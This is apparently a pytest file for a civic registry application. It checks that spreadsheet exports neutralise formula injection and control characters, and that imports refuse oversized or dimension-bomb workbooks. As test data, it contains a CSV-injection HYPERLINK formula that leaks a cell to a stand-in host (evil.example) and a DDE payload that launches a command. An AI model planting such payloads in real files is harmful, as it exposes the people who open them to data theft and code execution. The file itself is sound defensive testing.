"""Spreadsheets in and out (issue 13, findings 2–4): exports nobody can break or weaponise, and
workbooks whose size is checked before and while they are read."""

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from civicgrid.core import spreadsheet
from civicgrid.core.idnumber import make_id_number
from civicgrid.core.scoping import SYSTEM
from civicgrid.registry import actions
from civicgrid.registry.models import Person
from tests import hostile


def test_safe_cell_drops_xml_illegal_characters_and_escapes_formula_starts():
    assert spreadsheet.safe_cell("张\x07三\x00") == "张三"
    for start in ("=", "+", "-", "@", "\t", "\r", "＝"):
        assert spreadsheet.safe_cell(start + "1+1") == "'" + start + "1+1"
    assert spreadsheet.safe_cell("王芳") == "王芳"
    assert spreadsheet.safe_cell(-3) == -3 and spreadsheet.safe_cell(2.5) == 2.5 and spreadsheet.safe_cell(None) is None
    assert spreadsheet.safe_cell("x" * 40_000) == "x" * 32_767
    text = spreadsheet.write_csv(["姓名"], [["=1+1"], ["a\x07b"]]).decode("utf-8-sig")
    assert text.splitlines() == ["姓名", "'=1+1", "ab"]


@pytest.fixture
def stored_hostile_names(people):
    """Two people whose names were stored before names were cleaned at the boundary."""
    building = actions.do_create_building(actor=SYSTEM, address="文三街6号枫丹新村1幢", lon=120.005, lat=30.205)
    bell = actions.do_register_person(actor=SYSTEM, building=building, name="铃声",
                                      id_number="330106195803180010")
    formula = actions.do_register_person(actor=SYSTEM, building=building, name="公式",
                                         id_number=make_id_number("330106", dt.date(1960, 1, 1), 1, "M"))
    Person.objects.filter(pk=bell.pk).update(name="张\u0007三")
    Person.objects.filter(pk=formula.pk).update(name='=HYPERLINK("http://evil.example/?leak="&C2,"点击查看")')
    return bell, formula


def _cells(data: bytes) -> list[list]:
    book = load_workbook(io.BytesIO(data))
    return [[c for c in row] for row in book.worksheets[0].iter_rows()]


@pytest.mark.parametrize("level", ["district", "street", "community"])
def test_a_control_character_in_a_name_does_not_break_the_people_export(stored_hostile_names, people, client_for,
                                                                        level):
    response = client_for(people[level]).get("/api/registry/export/people.xlsx")
    assert response.status_code == 200
    names = [row[0].value for row in _cells(response.content)[1:]]
    assert "张三" in names


def test_revealed_export_survives_control_characters_and_escapes_formulas(stored_hostile_names, people, client_for):
    response = client_for(people["district"]).post("/api/registry/export/people.xlsx", {"reason": "核对"},
                                                   content_type="application/json")
    assert response.status_code == 200
    rows = _cells(response.content)[1:]
    formula = next(row[0] for row in rows if "HYPERLINK" in str(row[0].value))
    assert formula.data_type == "s" and formula.value.startswith("'=HYPERLINK")


def test_formula_in_a_name_is_exported_as_text(stored_hostile_names, people, client_for):
    response = client_for(people["street"]).get("/api/registry/export/people.xlsx")
    rows = _cells(response.content)[1:]
    cell = next(row[0] for row in rows if "HYPERLINK" in str(row[0].value))
    assert cell.data_type == "s" and cell.value.startswith("'=")  # text, not a live formula


def test_evaluation_export_cells_are_safe():
    from civicgrid.cases import evaluation

    book = spreadsheet.workbook()
    sheet = book.create_sheet("单位:评价")
    sheet.append(["=cmd|' /C calc'!A0", "正常", 3])
    data = book.to_bytes()
    row = _cells(data)[0]
    assert row[0].value.startswith("'=") and row[0].data_type == "s" and row[2].value == 3
    assert evaluation.export_xlsx  # the evaluation export builds its workbook with core.spreadsheet.workbook
    import inspect

    assert "workbook()" in inspect.getsource(evaluation.export_xlsx)


# --- reading: bounded -----------------------------------------------------------------------
def test_dimension_bomb_is_refused_naming_the_cell(people, client_for):
    data = hostile.dimension_bomb_xlsx()
    assert len(data) < 5_000
    response = client_for(people["street"]).post(
        "/api/registry/imports", {"kind": "people", "file": _upload(data)})
    assert response.status_code == 400
    body = response.json()
    assert body["field"] == "file" and "1048576" in body["detail"]


def test_wide_rows_are_refused_at_the_first_cell_beyond_the_columns():
    with pytest.raises(spreadsheet.SpreadsheetError) as caught:
        list(spreadsheet.read_xlsx_rows(hostile.wide_rows_xlsx(20_000)))
    assert "XFD2" in str(caught.value)


def test_a_lying_dimension_tag_is_ignored_for_a_genuine_file():
    rows = list(spreadsheet.read_xlsx_rows(hostile.small_ledger_claiming_whole_sheet()))
    assert rows == [(1, ["姓名", "证件类型", "网格编码"]), (2, ["王芳", "护照", "330106001001001"])]


def test_rows_beyond_the_limit_are_refused_while_reading(settings):
    body = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(1, 30))
    with pytest.raises(spreadsheet.SpreadsheetError) as caught:
        list(spreadsheet.read_xlsx_rows(hostile.xlsx(body, "A1:A1"), row_limit=10))
    assert "12" in str(caught.value)


def test_oversized_parts_are_refused_before_reading(settings):
    settings.CIVICGRID_SPREADSHEET_MAX_XML_BYTES = 10_000
    body = "".join(f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(1, 500))
    with pytest.raises(spreadsheet.SpreadsheetError, match="MB"):
        list(spreadsheet.read_xlsx_rows(hostile.xlsx(body, "A1:A499")))


def test_csv_with_too_many_columns_is_refused(people):
    from civicgrid.core.errors import UserError

    data = ("姓名," + ",".join(["x"] * 500) + "\n").encode()
    with pytest.raises(UserError, match="501"):
        actions.do_preview_import(actor=people["street"], data=data, filename="a.csv", kind="people")


def _upload(data: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile("台账.xlsx", data, content_type="application/vnd.openxmlformats-officedocument."
                                                                 "spreadsheetml.sheet")
